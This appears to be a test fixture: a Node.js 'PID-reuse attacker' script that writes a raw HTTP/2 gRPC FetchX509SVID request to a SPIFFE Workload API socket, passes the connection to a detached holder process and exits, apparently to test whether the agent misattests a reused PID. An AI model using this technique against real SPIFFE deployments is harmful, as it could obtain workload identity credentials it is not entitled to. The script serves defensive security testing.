// PID-reuse attacker for tests. Connects to the Workload API socket, writes a complete gRPC
// FetchX509SVID request as raw HTTP/2 frames (so this process never reads the answer), hands the
// connection to a detached holder process (fd 3), prints its own pid, and exits — or, with --stay,
// waits so the agent can still attest it (the positive control).
// Usage: node reuse-attacker.mjs <socket> <holder-result-file> [--stay]
import { spawn } from 'node:child_process'
import { connect } from 'node:net'
import { fileURLToPath } from 'node:url'

const [socketPath, resultFile, stay] = process.argv.slice(2)
const holder = fileURLToPath(new URL('./reuse-holder.mjs', import.meta.url))

function frame(type, flags, streamId, payload) {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(streamId, 5)
  return Buffer.concat([head, payload])
}

/** HPACK "literal header field without indexing, new name", no Huffman (short strings only). */
function literal(name, value) {
  return Buffer.concat([
    Buffer.from([0x00, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ])
}

const headers = Buffer.concat([
  literal(':method', 'POST'),
  literal(':scheme', 'http'),
  literal(':path', '/SpiffeWorkloadAPI/FetchX509SVID'),
  literal(':authority', 'localhost'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
  literal('workload.spiffe.io', 'true'),
])
const request = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(0x4, 0, 0, Buffer.alloc(0)), // SETTINGS
  frame(0x1, 0x4, 1, headers), // HEADERS, END_HEADERS
  frame(0x0, 0x1, 1, Buffer.alloc(5)), // DATA: one empty message, END_STREAM
])

const sock = connect(socketPath, () => {
  sock.pause()
  sock.write(request, () => {
    const child = spawn(process.execPath, [holder, resultFile], {
      detached: true,
      stdio: ['ignore', 'ignore', 'ignore', sock],
    })
    child.unref()
    process.stdout.write(`${JSON.stringify({ pid: process.pid, holder: child.pid })}\n`)
    if (stay === '--stay') setTimeout(() => process.exit(0), 5000)
    else process.exit(0)
  })
})
sock.on('error', (err) => {
  process.stdout.write(`${JSON.stringify({ error: err.message })}\n`)
  process.exit(1)
})
